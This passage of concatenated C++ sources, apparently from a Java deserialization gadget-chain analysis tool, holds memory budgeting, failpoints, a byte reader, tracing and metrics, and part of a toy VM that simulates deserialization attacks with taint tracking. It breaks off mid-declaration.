// chain, so the root always reads the whole process's governed bytes while
// each shard polices only its own slice.
//
// Two rules keep the accounting honest and the results bit-deterministic at
// any --jobs count (docs/ROBUSTNESS.md "Memory governance"):
//
//   1. Decisions are local. Work only ever *prunes or spills* based on a
//      budget it charges single-threadedly (its own shard slice) — never on
//      a parent's live total, which is a race. Parents exist for telemetry
//      (charged()/peak()) and for serial checkpoints (a stage boundary after
//      a barrier observes a deterministic total).
//   2. Unset is free. Every call site holds a `MemoryBudget*` and skips the
//      atomics when it is null; a run without --mem-budget executes the
//      identical instruction stream minus one pointer test.
//
// All counters are relaxed atomics: charge/release totals are commutative
// sums, so cross-thread interleaving cannot change what a quiescent reader
// observes. peak() is a best-effort high-water mark (CAS max), exact when
// the budget is charged from one thread — which shard budgets always are.
#pragma once

#include <atomic>
#include <cstddef>
#include <cstdint>

namespace tabby::util {

class MemoryBudget {
 public:
  /// An unbounded ledger: charges are tracked (and propagated) but
  /// exceeded() never fires. cap_bytes = 0 means unbounded.
  MemoryBudget() = default;
  explicit MemoryBudget(std::size_t cap_bytes, MemoryBudget* parent = nullptr)
      : cap_(cap_bytes), parent_(parent) {}

  // The ledger is address-identified (children keep a pointer to it).
  MemoryBudget(const MemoryBudget&) = delete;
  MemoryBudget& operator=(const MemoryBudget&) = delete;

  std::size_t cap() const { return cap_; }
  bool bounded() const { return cap_ != 0; }

  /// Records `bytes` acquired, here and up the parent chain.
  void charge(std::size_t bytes) {
    for (MemoryBudget* b = this; b != nullptr; b = b->parent_) b->charge_local(bytes);
  }

  /// Records `bytes` freed (or handed off to an uncharged owner). Every
  /// charge must be paired with exactly one release; tests assert the
  /// balance drains to zero.
  void release(std::size_t bytes) {
    for (MemoryBudget* b = this; b != nullptr; b = b->parent_) {
      b->charged_.fetch_sub(bytes, std::memory_order_relaxed);
    }
  }

  /// Bytes currently charged (self + descendants).
  std::size_t charged() const { return charged_.load(std::memory_order_relaxed); }

  /// High-water mark of charged(). Exact for single-threaded charging.
  std::size_t peak() const { return peak_.load(std::memory_order_relaxed); }

  /// True when a bounded budget is over cap. Only poll this on a budget the
  /// caller charges single-threadedly (or at a serial stage boundary) —
  /// see the determinism rule above.
  bool exceeded() const { return cap_ != 0 && charged() > cap_; }

  /// Headroom left under the cap; SIZE_MAX when unbounded.
  std::size_t remaining() const {
    if (cap_ == 0) return SIZE_MAX;
    std::size_t used = charged();
    return used >= cap_ ? 0 : cap_ - used;
  }

 private:
  void charge_local(std::size_t bytes) {
    std::size_t now = charged_.fetch_add(bytes, std::memory_order_relaxed) + bytes;
    std::size_t seen = peak_.load(std::memory_order_relaxed);
    while (now > seen &&
           !peak_.compare_exchange_weak(seen, now, std::memory_order_relaxed)) {
    }
  }

  std::size_t cap_ = 0;  // 0 = unbounded
  MemoryBudget* parent_ = nullptr;
  std::atomic<std::size_t> charged_{0};
  std::atomic<std::size_t> peak_{0};
};

/// Null-tolerant helpers: the idiom at every call site. A run without a
/// budget passes nullptr everywhere and pays one branch.
inline void maybe_charge(MemoryBudget* budget, std::size_t bytes) {
  if (budget != nullptr) budget->charge(bytes);
}
inline void maybe_release(MemoryBudget* budget, std::size_t bytes) {
  if (budget != nullptr) budget->release(bytes);
}

/// RAII charge: holds `bytes` on `budget` for the scope (e.g. a payload
/// batch or a snapshot file buffer). Movable so it can ride in a result.
class ScopedCharge {
 public:
  ScopedCharge() = default;
  ScopedCharge(MemoryBudget* budget, std::size_t bytes) : budget_(budget), bytes_(bytes) {
    maybe_charge(budget_, bytes_);
  }
  ScopedCharge(ScopedCharge&& other) noexcept : budget_(other.budget_), bytes_(other.bytes_) {
    other.budget_ = nullptr;
    other.bytes_ = 0;
  }
  ScopedCharge& operator=(ScopedCharge&& other) noexcept {
    if (this != &other) {
      reset();
      budget_ = other.budget_;
      bytes_ = other.bytes_;
      other.budget_ = nullptr;
      other.bytes_ = 0;
    }
    return *this;
  }
  ScopedCharge(const ScopedCharge&) = delete;
  ScopedCharge& operator=(const ScopedCharge&) = delete;
  ~ScopedCharge() { reset(); }

  void reset() {
    maybe_release(budget_, bytes_);
    budget_ = nullptr;
    bytes_ = 0;
  }

 private:
  MemoryBudget* budget_ = nullptr;
  std::size_t bytes_ = 0;
};

}  // namespace tabby::util
