// Failpoints: named fault-injection sites compiled into the production
// binaries (fail-rs style). Each site is a single `failpoint::poll("name")`
// call on an error-handling seam — a file read, an archive decode, a cache
// publish, a worker task body. When the harness is disarmed (the default)
// poll() is one relaxed atomic load; nothing allocates, nothing locks, so
// the sites stay in release builds.
//
// Arming:
//   - environment: TABBY_FAILPOINTS=1 arms the harness at process start;
//     TABBY_FAILPOINT_ACTIVATE="site_a;site_b*3" additionally activates
//     sites (an optional `*N` suffix fires the site N times, then disarms
//     it; without a suffix the site fires on every poll).
//   - programmatic: arm() / activate(site, times) — what the chaos tests
//     drive.
//
// A fired site makes its caller take the failure path it already has for
// real faults (return an Error, miss the cache, throw from the task). The
// catalog of compiled-in sites lives in failpoint.cpp and is documented in
// docs/ROBUSTNESS.md; catalog() exposes it so the chaos sweep can iterate
// every site without hard-coding names.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>
#include <vector>

namespace tabby::util::failpoint {

namespace detail {
/// The master gate. Inline so poll() compiles to a load + branch at every
/// site; set from the environment (failpoint.cpp's initializer) or arm().
extern std::atomic<bool> g_armed;
/// Slow path: returns true when `site` is active and consumes one firing.
bool should_fire(const char* site);
}  // namespace detail

/// Arms/disarms the harness. disarm() also clears every activation and
/// firing count, so tests start from a clean slate.
void arm();
void disarm();
bool armed();

/// Activates a site: the next `times` polls of it fire (times < 0: every
/// poll fires, until deactivate). Unknown names are accepted — the site
/// simply never polls — so sweeps can be written against catalog().
void activate(const std::string& site, int times = -1);
void deactivate(const std::string& site);
void deactivate_all();

/// How many times `site` has fired since the last arm()/disarm().
std::uint64_t fired(const std::string& site);

/// Every failpoint site compiled into this binary, lexicographic.
std::vector<std::string> catalog();

/// The per-site check. True = the caller must fail now. `site` must be a
/// static string naming an entry of the catalog.
inline bool poll(const char* site) {
  if (!detail::g_armed.load(std::memory_order_relaxed)) return false;
  return detail::should_fire(site);
}

}  // namespace tabby::util::failpoint
