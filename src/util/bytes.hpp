// Bounds-checked binary cursor primitives for the TJAR archive format.
// Readers treat the input as untrusted (the paper's pipeline parses Jar
// files it downloaded), so every read reports failure through Result instead
// of asserting.
#pragma once

#include <cstddef>
#include <cstdint>
#include <span>
#include <string>
#include <vector>

#include "util/result.hpp"

namespace tabby::util {

class ByteWriter {
 public:
  void u8(std::uint8_t v) { buf_.push_back(static_cast<std::byte>(v)); }
  void u16(std::uint16_t v) {
    u8(static_cast<std::uint8_t>(v & 0xFF));
    u8(static_cast<std::uint8_t>(v >> 8));
  }
  void u32(std::uint32_t v) {
    u16(static_cast<std::uint16_t>(v & 0xFFFF));
    u16(static_cast<std::uint16_t>(v >> 16));
  }
  void u64(std::uint64_t v) {
    u32(static_cast<std::uint32_t>(v & 0xFFFFFFFF));
    u32(static_cast<std::uint32_t>(v >> 32));
  }
  /// LEB128-style unsigned varint.
  void uvarint(std::uint64_t v) {
    while (v >= 0x80) {
      u8(static_cast<std::uint8_t>(v) | 0x80);
      v >>= 7;
    }
    u8(static_cast<std::uint8_t>(v));
  }
  /// Zig-zag encoded signed varint.
  void svarint(std::int64_t v) {
    uvarint((static_cast<std::uint64_t>(v) << 1) ^ static_cast<std::uint64_t>(v >> 63));
  }
  void bytes(std::string_view s) {
    uvarint(s.size());
    for (char c : s) u8(static_cast<std::uint8_t>(c));
  }

  const std::vector<std::byte>& data() const { return buf_; }
  std::vector<std::byte> take() { return std::move(buf_); }
  std::size_t size() const { return buf_.size(); }

 private:
  std::vector<std::byte> buf_;
};

class ByteReader {
 public:
  explicit ByteReader(std::span<const std::byte> data) : data_(data) {}

  std::size_t position() const { return pos_; }
  std::size_t remaining() const { return data_.size() - pos_; }
  bool at_end() const { return pos_ == data_.size(); }

  util::Result<std::uint8_t> u8() {
    if (pos_ >= data_.size()) return err("unexpected end of archive");
    return static_cast<std::uint8_t>(data_[pos_++]);
  }
  util::Result<std::uint16_t> u16() {
    auto lo = u8();
    if (!lo.ok()) return lo.error();
    auto hi = u8();
    if (!hi.ok()) return hi.error();
    return static_cast<std::uint16_t>(lo.value() | (hi.value() << 8));
  }
  util::Result<std::uint32_t> u32() {
    auto lo = u16();
    if (!lo.ok()) return lo.error();
    auto hi = u16();
    if (!hi.ok()) return hi.error();
    return static_cast<std::uint32_t>(lo.value()) | (static_cast<std::uint32_t>(hi.value()) << 16);
  }
  util::Result<std::uint64_t> u64() {
    auto lo = u32();
    if (!lo.ok()) return lo.error();
    auto hi = u32();
    if (!hi.ok()) return hi.error();
    return static_cast<std::uint64_t>(lo.value()) | (static_cast<std::uint64_t>(hi.value()) << 32);
  }
  util::Result<std::uint64_t> uvarint() {
    // Hand-rolled rather than layered on u8(): varints are the hottest read
    // in store/archive parsing, and the per-byte Result round trips cost
    // real time on multi-megabyte loads.
    std::uint64_t out = 0;
    int shift = 0;
    while (pos_ < data_.size()) {
      std::uint8_t b = static_cast<std::uint8_t>(data_[pos_++]);
      if (shift >= 64) return err("varint overflow");
      out |= static_cast<std::uint64_t>(b & 0x7F) << shift;
      if ((b & 0x80) == 0) return out;
      shift += 7;
    }
    return err("unexpected end of archive");
  }
  util::Result<std::int64_t> svarint() {
    auto raw = uvarint();
    if (!raw.ok()) return raw.error();
    std::uint64_t v = raw.value();
    return static_cast<std::int64_t>((v >> 1) ^ (~(v & 1) + 1));
  }
  util::Result<std::string> bytes() {
    auto len = uvarint();
    if (!len.ok()) return len.error();
    if (len.value() > remaining()) return err("string length exceeds archive size");
    std::string out(reinterpret_cast<const char*>(data_.data() + pos_), len.value());
    pos_ += len.value();
    return out;
  }

  /// Reads a count-prefixed collection size, rejecting absurd counts before
  /// any allocation happens (each element needs at least one byte).
  util::Result<std::size_t> count(std::string_view what) {
    auto n = uvarint();
    if (!n.ok()) return n.error();
    if (n.value() > remaining()) {
      return err("declared " + std::string(what) + " count exceeds archive size");
    }
    return static_cast<std::size_t>(n.value());
  }

 private:
  util::Error err(std::string message) const { return util::Error{std::move(message), pos_}; }

  std::span<const std::byte> data_;
  std::size_t pos_ = 0;
};

}  // namespace tabby::util
