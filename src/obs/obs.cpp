#include "obs/obs.hpp"

#include <algorithm>
#include <chrono>
#include <map>
#include <memory>
#include <mutex>

namespace tabby::obs {

namespace {

std::uint64_t steady_now_ns() {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
}

void json_escape_into(std::string& out, const std::string& text) {
  for (char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          constexpr const char* hex = "0123456789abcdef";
          out += "\\u00";
          out += hex[(c >> 4) & 0xF];
          out += hex[c & 0xF];
        } else {
          out += c;
        }
    }
  }
}

/// Microseconds with fixed 3-decimal precision — Chrome's "ts"/"dur" unit —
/// rendered without locale involvement.
std::string micros(std::uint64_t ns) {
  std::uint64_t thousandths_us = ns;  // 1 ns = 1/1000 us
  std::string out = std::to_string(thousandths_us / 1000);
  std::uint64_t frac = thousandths_us % 1000;
  out += '.';
  out += static_cast<char>('0' + frac / 100);
  out += static_cast<char>('0' + (frac / 10) % 10);
  out += static_cast<char>('0' + frac % 10);
  return out;
}

std::string millis_human(std::uint64_t ns) {
  std::uint64_t us = ns / 1000;
  std::string out = std::to_string(us / 1000);
  out += '.';
  std::uint64_t frac = us % 1000;
  out += static_cast<char>('0' + frac / 100);
  out += static_cast<char>('0' + (frac / 10) % 10);
  out += static_cast<char>('0' + frac % 10);
  out += "ms";
  return out;
}

}  // namespace

/// One thread's recording destination. Registered (under the registry mutex)
/// on the thread's first recording or naming call, then appended to without
/// any lock. Buffers are owned by the registry, never by the thread, so a
/// worker that exits before flush() leaves its records readable.
struct Tracer::ThreadBuffer {
  std::uint32_t tid = 0;
  std::string name;
  bool named = false;  // set_thread_name() was called (vs the default name)
  std::vector<SpanRecord> spans;
  std::vector<std::pair<const char*, std::uint64_t>> counters;  // name -> accumulated delta
};

namespace {

struct Registry {
  std::mutex mutex;
  std::vector<std::unique_ptr<Tracer::ThreadBuffer>> buffers;
};

Registry& registry() {
  static Registry instance;
  return instance;
}

thread_local Tracer::ThreadBuffer* t_buffer = nullptr;

}  // namespace

Tracer& Tracer::instance() {
  static Tracer tracer;
  return tracer;
}

Tracer::ThreadBuffer& Tracer::local_buffer() {
  if (t_buffer == nullptr) {
    Registry& reg = registry();
    std::lock_guard<std::mutex> lock(reg.mutex);
    auto buffer = std::make_unique<ThreadBuffer>();
    buffer->tid = static_cast<std::uint32_t>(reg.buffers.size());
    buffer->name = "thread-" + std::to_string(buffer->tid);
    t_buffer = buffer.get();
    reg.buffers.push_back(std::move(buffer));
  }
  return *t_buffer;
}

std::uint64_t Tracer::now_ns() const { return steady_now_ns() - epoch_ns_; }

void Tracer::enable() {
  // The enabling thread is the pipeline's orchestrator: register it now (so
  // it owns a track even if it never records) and call its track "main"
  // unless it chose a name. Registration order is otherwise arbitrary —
  // ThreadPool workers may have registered first.
  ThreadBuffer& mine = local_buffer();
  Registry& reg = registry();
  std::lock_guard<std::mutex> lock(reg.mutex);
  if (!mine.named) mine.name = "main";
  for (auto& buffer : reg.buffers) {
    buffer->spans.clear();
    buffer->counters.clear();
  }
  epoch_ns_ = steady_now_ns();
  enabled_flag_.store(true, std::memory_order_relaxed);
}

void Tracer::disable() { enabled_flag_.store(false, std::memory_order_relaxed); }

void Tracer::record_span(const char* name, std::uint64_t start_ns, std::uint64_t dur_ns,
                         std::vector<Attr> attrs) {
  ThreadBuffer& buffer = local_buffer();
  SpanRecord record;
  record.name = name;
  record.start_ns = start_ns;
  record.dur_ns = dur_ns;
  record.tid = buffer.tid;
  record.attrs = std::move(attrs);
  buffer.spans.push_back(std::move(record));
}

void Tracer::record_counter(const char* name, std::uint64_t delta) {
  ThreadBuffer& buffer = local_buffer();
  for (auto& [existing, value] : buffer.counters) {
    // Counter names are static strings, so pointer equality is the common
    // fast case; fall back to content comparison across translation units.
    if (existing == name || std::string_view(existing) == name) {
      value += delta;
      return;
    }
  }
  buffer.counters.emplace_back(name, delta);
}

void Tracer::name_current_thread(std::string name) {
  ThreadBuffer& buffer = local_buffer();
  buffer.name = std::move(name);
  buffer.named = true;
}

void set_thread_name(std::string name) {
  Tracer::instance().name_current_thread(std::move(name));
}

TraceReport Tracer::flush() {
  Registry& reg = registry();
  std::lock_guard<std::mutex> lock(reg.mutex);
  TraceReport report;
  std::map<std::string, std::uint64_t> totals;
  for (auto& buffer : reg.buffers) {
    report.thread_names.push_back(buffer->name);
    for (SpanRecord& span : buffer->spans) report.spans.push_back(std::move(span));
    buffer->spans.clear();
    for (const auto& [name, value] : buffer->counters) totals[name] += value;
    buffer->counters.clear();
  }
  std::stable_sort(report.spans.begin(), report.spans.end(),
                   [](const SpanRecord& a, const SpanRecord& b) {
                     if (a.start_ns != b.start_ns) return a.start_ns < b.start_ns;
                     if (a.tid != b.tid) return a.tid < b.tid;
                     return a.dur_ns > b.dur_ns;  // parents before children
                   });
  for (auto& [name, value] : totals) report.counters.push_back({name, value});
  return report;
}

std::string TraceReport::to_chrome_json() const {
  std::string out = "[";
  bool first = true;
  auto emit = [&out, &first](const std::string& event) {
    if (!first) out += ",";
    first = false;
    out += "\n";
    out += event;
  };

  for (std::size_t tid = 0; tid < thread_names.size(); ++tid) {
    std::string event = R"({"ph":"M","pid":1,"tid":)" + std::to_string(tid) +
                        R"(,"name":"thread_name","args":{"name":")";
    json_escape_into(event, thread_names[tid]);
    event += "\"}}";
    emit(event);
  }

  std::uint64_t end_ns = 0;
  for (const SpanRecord& span : spans) {
    end_ns = std::max(end_ns, span.start_ns + span.dur_ns);
    std::string event = R"({"ph":"X","pid":1,"tid":)" + std::to_string(span.tid) +
                        R"(,"ts":)" + micros(span.start_ns) + R"(,"dur":)" + micros(span.dur_ns) +
                        R"(,"cat":"tabby","name":")";
    json_escape_into(event, span.name);
    event += "\"";
    if (!span.attrs.empty()) {
      event += R"(,"args":{)";
      for (std::size_t i = 0; i < span.attrs.size(); ++i) {
        if (i > 0) event += ",";
        event += "\"";
        json_escape_into(event, span.attrs[i].key);
        event += "\":\"";
        json_escape_into(event, span.attrs[i].value);
        event += "\"";
      }
      event += "}";
    }
    event += "}";
    emit(event);
  }

  // Counter totals as one "C" sample each at the trace end, so Perfetto
  // renders the final value of every counter track.
  for (const CounterTotal& counter : counters) {
    std::string event = R"({"ph":"C","pid":1,"tid":0,"ts":)" + micros(end_ns) + R"(,"name":")";
    json_escape_into(event, counter.name);
    event += R"(","args":{"value":)" + std::to_string(counter.value) + "}}";
    emit(event);
  }

  out += "\n]\n";
  return out;
}

std::string TraceReport::metrics_summary() const {
  // Aggregate spans by name, keeping first-appearance order (pipeline order).
  struct Aggregate {
    std::string name;
    std::size_t count = 0;
    std::uint64_t total_ns = 0;
  };
  std::vector<Aggregate> aggregates;
  for (const SpanRecord& span : spans) {
    auto it = std::find_if(aggregates.begin(), aggregates.end(),
                           [&span](const Aggregate& a) { return a.name == span.name; });
    if (it == aggregates.end()) {
      aggregates.push_back({span.name, 1, span.dur_ns});
    } else {
      ++it->count;
      it->total_ns += span.dur_ns;
    }
  }

  std::size_t width = 0;
  for (const Aggregate& a : aggregates) width = std::max(width, a.name.size());

  std::string out;
  for (const Aggregate& a : aggregates) {
    out += "metrics: span    " + a.name + std::string(width - a.name.size(), ' ') +
           "  n=" + std::to_string(a.count) + "  total=" + millis_human(a.total_ns) + "\n";
  }
  // Counter lines are deliberately unpadded "name = value": trivially
  // greppable and stable under new counters joining the catalog.
  for (const CounterTotal& c : counters) {
    out += "metrics: counter " + c.name + " = " + std::to_string(c.value) + "\n";
  }
  return out;
}

double TraceReport::total_seconds(const std::string& name) const {
  std::uint64_t total = 0;
  for (const SpanRecord& span : spans) {
    if (span.name == name) total += span.dur_ns;
  }
  return static_cast<double>(total) / 1e9;
}

std::uint64_t TraceReport::counter(const std::string& name) const {
  for (const CounterTotal& c : counters) {
    if (c.name == name) return c.value;
  }
  return 0;
}

}  // namespace tabby::obs
