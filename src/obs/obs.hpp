// Pipeline observability: structured tracing (RAII spans) and monotonic
// counters, threaded through every pipeline stage (decode, link, analysis,
// CPG build, chain finding, cache). Two exporters read the collected data:
//
//   - TraceReport::to_chrome_json(): Chrome trace-event JSON ("traceEvents"
//     array format), viewable in chrome://tracing or https://ui.perfetto.dev,
//     with one track per thread (the main thread plus one per ThreadPool
//     worker) — the CLI's `--trace FILE` output.
//   - TraceReport::metrics_summary(): a human per-phase summary (span
//     aggregates plus the counter catalog) — the CLI's `--metrics` output on
//     stderr.
//
// Design constraints, in order:
//   1. Disabled is free. The process-wide Tracer starts disabled; a disabled
//      TABBY_SPAN or counter_add is one relaxed atomic load and no
//      allocation, so the instrumentation can stay in release builds.
//   2. Observation never perturbs results. Spans and counters only *read*
//      pipeline state; enabling tracing must leave every byte-stable output
//      (graph stores, chain lists, query results) bit-identical.
//   3. Recording is lock-free. Each thread appends to its own buffer; the
//      only locks are on thread registration (once per thread lifetime) and
//      in flush(). flush() requires quiescence: call it only between pipeline
//      stages / after parallel_for barriers, never concurrently with
//      recording threads.
//
// The span naming scheme ("stage.phase", e.g. "cpg.build" > "cpg.pcg") and
// the counter catalog are documented in docs/OBSERVABILITY.md.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>
#include <vector>

namespace tabby::obs {

/// One key=value attribute attached to a span (rendered into the Chrome
/// trace event's "args" object).
struct Attr {
  std::string key;
  std::string value;
};

/// A completed span as drained from a thread buffer.
struct SpanRecord {
  std::string name;          // static naming scheme, "stage.phase"
  std::uint64_t start_ns = 0;  // monotonic, relative to Tracer::enable()
  std::uint64_t dur_ns = 0;
  std::uint32_t tid = 0;     // dense per-process track id (registration order)
  std::vector<Attr> attrs;
};

/// Final value of one named monotonic counter.
struct CounterTotal {
  std::string name;
  std::uint64_t value = 0;
};

/// Everything one flush() drained: spans in ascending start order, counters
/// merged across threads in ascending name order, and the track names.
struct TraceReport {
  std::vector<SpanRecord> spans;
  std::vector<CounterTotal> counters;
  std::vector<std::string> thread_names;  // index = SpanRecord::tid

  /// Chrome trace-event JSON: thread_name metadata + one "X" (complete)
  /// event per span + one "C" (counter) event per counter total.
  std::string to_chrome_json() const;

  /// Human summary: one line per distinct span name (count, total, mean)
  /// followed by the counter catalog. Every line is prefixed "metrics:".
  std::string metrics_summary() const;

  /// Total time attributed to a span name (sum over all records).
  double total_seconds(const std::string& name) const;

  /// Final value of a counter, 0 when absent.
  std::uint64_t counter(const std::string& name) const;
};

/// The process-wide trace collector. Stages record through the free helpers
/// below; only the CLI (and tests) enable/flush it.
class Tracer {
 public:
  static Tracer& instance();

  /// Starts a collection epoch: clears previously drained/undrained data and
  /// re-bases span timestamps at "now".
  void enable();
  void disable();
  bool enabled() const { return enabled_flag_.load(std::memory_order_relaxed); }

  /// Drains every thread buffer into one report. Requires recording
  /// quiescence (between stages / after barriers).
  TraceReport flush();

  // Recording back ends for Span/counter_add; callers must have checked
  // enabled() first.
  std::uint64_t now_ns() const;
  void record_span(const char* name, std::uint64_t start_ns, std::uint64_t dur_ns,
                   std::vector<Attr> attrs);
  void record_counter(const char* name, std::uint64_t delta);

  /// Names the calling thread's track ("worker-3"). Safe (and cheap) while
  /// disabled; ThreadPool workers call it once at thread start.
  void name_current_thread(std::string name);

  /// Per-thread recording destination (defined in obs.cpp; public only so
  /// the registry can own the buffers of exited threads).
  struct ThreadBuffer;

 private:
  Tracer() = default;
  ThreadBuffer& local_buffer();

  // enabled_flag_ is the only member the disabled fast path touches.
  std::atomic<bool> enabled_flag_{false};
  std::uint64_t epoch_ns_ = 0;
};

/// True when spans/counters are being collected.
inline bool enabled() { return Tracer::instance().enabled(); }

/// Bumps a named monotonic counter. No-op (and allocation-free) when the
/// tracer is disabled. `name` must be a static string.
inline void counter_add(const char* name, std::uint64_t delta = 1) {
  Tracer& tracer = Tracer::instance();
  if (tracer.enabled()) tracer.record_counter(name, delta);
}

/// Names the calling thread's trace track.
void set_thread_name(std::string name);

/// RAII span: records [construction, destruction) on the calling thread's
/// track. `name` must be a static string (the record copies it only when
/// enabled). Attribute values that are expensive to build should be guarded
/// with active() at the call site.
class Span {
 public:
  explicit Span(const char* name) {
    Tracer& tracer = Tracer::instance();
    if (!tracer.enabled()) return;
    name_ = name;
    start_ns_ = tracer.now_ns();
    active_ = true;
  }
  ~Span() {
    if (!active_) return;
    Tracer& tracer = Tracer::instance();
    if (!tracer.enabled()) return;  // disabled mid-span: drop it
    tracer.record_span(name_, start_ns_, tracer.now_ns() - start_ns_, std::move(attrs_));
  }
  Span(const Span&) = delete;
  Span& operator=(const Span&) = delete;

  bool active() const { return active_; }

  void attr(const char* key, std::string value) {
    if (active_) attrs_.push_back({key, std::move(value)});
  }
  void attr(const char* key, std::uint64_t value) {
    if (active_) attrs_.push_back({key, std::to_string(value)});
  }

 private:
  const char* name_ = nullptr;
  std::uint64_t start_ns_ = 0;
  bool active_ = false;
  std::vector<Attr> attrs_;
};

#define TABBY_OBS_CONCAT2(a, b) a##b
#define TABBY_OBS_CONCAT(a, b) TABBY_OBS_CONCAT2(a, b)
/// Anonymous RAII span covering the rest of the enclosing scope.
#define TABBY_SPAN(name) ::tabby::obs::Span TABBY_OBS_CONCAT(tabby_obs_span_, __LINE__)(name)

}  // namespace tabby::obs
