#include "runtime/objectgraph.hpp"

namespace tabby::runtime {

namespace {

VmValue resolve(const FieldSpec& spec, const std::map<std::string, ObjectPtr>& instances) {
  struct Visitor {
    const std::map<std::string, ObjectPtr>& instances;
    VmValue operator()(std::monostate) { return VmValue::null(); }
    VmValue operator()(std::int64_t v) { return VmValue::of(v); }
    VmValue operator()(const std::string& v) { return VmValue::of(v); }
    VmValue operator()(const Ref& ref) {
      auto it = instances.find(ref.name);
      return it == instances.end() ? VmValue::null() : VmValue::of(it->second);
    }
  };
  return std::visit(Visitor{instances}, spec);
}

}  // namespace

ObjectPtr instantiate(const ObjectGraphSpec& spec) {
  if (spec.empty()) return nullptr;

  // Two-phase build so cyclic references resolve.
  std::map<std::string, ObjectPtr> instances;
  for (const auto& [name, object_spec] : spec.objects) {
    instances.emplace(name, std::make_shared<Object>(object_spec.class_name));
  }
  for (const auto& [name, object_spec] : spec.objects) {
    ObjectPtr& obj = instances.at(name);
    for (const auto& [field, value] : object_spec.fields) {
      obj->set_field(field, resolve(value, instances));
    }
    for (const FieldSpec& element : object_spec.elements) {
      obj->elements().push_back(resolve(element, instances));
    }
  }

  auto it = instances.find(spec.root);
  return it == instances.end() ? nullptr : it->second;
}

}  // namespace tabby::runtime
