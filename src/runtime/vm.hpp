// A miniature deserialization VM: interprets JIR method bodies over concrete
// object graphs. This is the repository's substitute for the paper's manual
// PoC writing (§IV-C "We manually instantiated the classes in the three
// tools' gadget chains and wrote a Proof of Concept to verify their
// effectiveness"): an attack object graph is built (every attacker-supplied
// value tainted), deserialization is simulated by invoking the root's source
// method, and the VM observes whether a sink method executes with tainted
// values at its Trigger_Condition positions.
#pragma once

#include <map>
#include <memory>
#include <string>
#include <variant>
#include <vector>

#include "cpg/sinks.hpp"
#include "jir/hierarchy.hpp"
#include "jir/model.hpp"
#include "util/deadline.hpp"

namespace tabby::runtime {

class Object;
using ObjectPtr = std::shared_ptr<Object>;

/// A runtime value. Taint marks attacker-controlled data; it propagates by
/// value flow (assignment, field/array transfer, returns).
struct VmValue {
  std::variant<std::monostate, std::int64_t, std::string, ObjectPtr> data;
  bool tainted = false;

  bool is_null() const { return std::holds_alternative<std::monostate>(data); }
  const ObjectPtr* object() const { return std::get_if<ObjectPtr>(&data); }

  static VmValue null() { return {}; }
  static VmValue of(std::int64_t v, bool taint = false) { return VmValue{v, taint}; }
  static VmValue of(std::string v, bool taint = false) { return VmValue{std::move(v), taint}; }
  static VmValue of(ObjectPtr v, bool taint = false) { return VmValue{std::move(v), taint}; }
};

/// A heap object: class name + named fields; arrays use `elements`.
class Object {
 public:
  explicit Object(std::string class_name) : class_name_(std::move(class_name)) {}

  const std::string& class_name() const { return class_name_; }

  VmValue get_field(const std::string& name) const {
    auto it = fields_.find(name);
    return it == fields_.end() ? VmValue::null() : it->second;
  }
  void set_field(const std::string& name, VmValue value) { fields_[name] = std::move(value); }
  const std::map<std::string, VmValue>& fields() const { return fields_; }

  std::vector<VmValue>& elements() { return elements_; }
  const std::vector<VmValue>& elements() const { return elements_; }

 private:
  std::string class_name_;
  std::map<std::string, VmValue> fields_;
  std::vector<VmValue> elements_;
};

/// Why an execution faulted — the machine-readable half of the fault string,
/// so callers (the verify post-pass) can tell negative evidence about the
/// chain apart from the VM simply running out of budget or hitting an
/// infrastructure fault. The strings stay the human-readable detail.
enum class FaultKind : std::uint8_t {
  None,     // no fault (clean completion)
  Modeled,  // modeled Java-level failure (NPE, thrown exception): the chain
            // concretely died — negative evidence, a refutation
  Setup,    // the chain could not even be driven (missing method body,
            // missing deserialization source, null root): also refuting
  Budget,   // a step/depth/allocation bound was exhausted — inconclusive
  Timeout,  // the wall-clock deadline expired mid-interpretation
  Fault,    // interpreter infrastructure fault (malformed body, injected
            // failpoint): the verdict must not be trusted either way
};

/// One observed arrival at a sink method during execution.
struct SinkHit {
  std::string signature;   // declared "owner#name/n"
  std::string sink_type;
  bool trigger_satisfied;  // tainted values at every Trigger_Condition position
  std::vector<std::string> call_stack;  // outermost first
};

struct ExecutionResult {
  bool completed = false;  // false: step/depth budget exhausted or fault
  std::string fault;       // empty unless aborted
  FaultKind fault_kind = FaultKind::None;
  std::size_t steps = 0;
  std::vector<SinkHit> sink_hits;

  /// True if some sink fired with its trigger condition satisfied — the
  /// "effective gadget chain" criterion.
  bool attack_succeeded(std::string_view sink_signature = {}) const {
    for (const SinkHit& hit : sink_hits) {
      if (!hit.trigger_satisfied) continue;
      if (sink_signature.empty() || hit.signature == sink_signature) return true;
    }
    return false;
  }
};

struct VmOptions {
  std::size_t max_steps = 200'000;
  std::size_t max_call_depth = 128;
  /// Allocation bounds: adversarial bytecode can otherwise grow an array or
  /// materialize strings without limit. Exceeding either aborts with a
  /// FaultKind::Budget fault instead of allocating.
  std::size_t max_array_elements = 1 << 20;
  std::size_t max_string_bytes = 1 << 20;
  /// Wall-clock bound, polled periodically at the step site; expiry aborts
  /// with a FaultKind::Timeout fault. Defaults to never.
  util::Deadline deadline;
  cpg::SinkRegistry sinks = cpg::SinkRegistry::defaults();
  cpg::SourceRegistry sources = cpg::SourceRegistry::defaults();
};

class Interpreter {
 public:
  Interpreter(const jir::Program& program, const jir::Hierarchy& hierarchy, VmOptions options = {});

  /// Invoke one method (dynamic dispatch already applied by the caller).
  ExecutionResult run(const std::string& owner, const std::string& method, VmValue receiver,
                      std::vector<VmValue> args);

  /// Simulate deserialization: taint the whole object graph reachable from
  /// `root`, then invoke every source method (readObject, readExternal, ...)
  /// declared by root's class chain.
  ExecutionResult deserialize(const ObjectPtr& root);

  /// Recursively mark an object graph attacker-controlled.
  static void taint_graph(const ObjectPtr& root);

 private:
  struct RunState;

  VmValue invoke(RunState& state, const jir::InvokeStmt& stmt,
                 const std::map<std::string, VmValue>& locals_snapshot, VmValue receiver,
                 std::vector<VmValue> args);
  VmValue execute(RunState& state, jir::MethodId method, VmValue receiver,
                  std::vector<VmValue> args);

  const jir::Program* program_;
  const jir::Hierarchy* hierarchy_;
  VmOptions options_;
